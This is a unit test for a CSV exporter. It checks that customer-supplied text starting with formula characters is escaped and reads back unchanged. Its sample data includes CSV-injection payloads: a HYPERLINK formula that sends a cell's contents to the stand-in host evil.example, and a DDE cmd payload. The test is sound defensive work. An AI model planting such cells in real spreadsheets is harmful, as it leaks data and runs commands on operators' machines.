import { describe, expect, it } from "vitest";
import { parseCsv, toCsv } from "../../src/store/csv.js";

describe("CSV", () => {
  it("writes a cell a spreadsheet would run as a formula as text, and reads it back as it was", () => {
    // What a customer may write on WhatsApp, kept as their first message and exported for an operator.
    const texts = ['=HYPERLINK("http://evil.example/?"&A2,"ver")', "+52 dame tu nip", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\tx"];
    const csv = toCsv(["text", "n"], [...texts.map((t) => [t, -0.5]), ["'=ya con comilla", 3]]);
    const cells = parseCsv(csv).slice(1);
    for (const line of csv.split("\n").slice(1, 1 + texts.length)) expect(line, line).toMatch(/^"?'/);
    expect(cells.map((r) => r[0])).toEqual([...texts, "'=ya con comilla"]);
    // Numbers stay numbers.
    expect(cells.map((r) => r[1])).toEqual([...texts.map(() => "-0.5"), "3"]);
  });
});
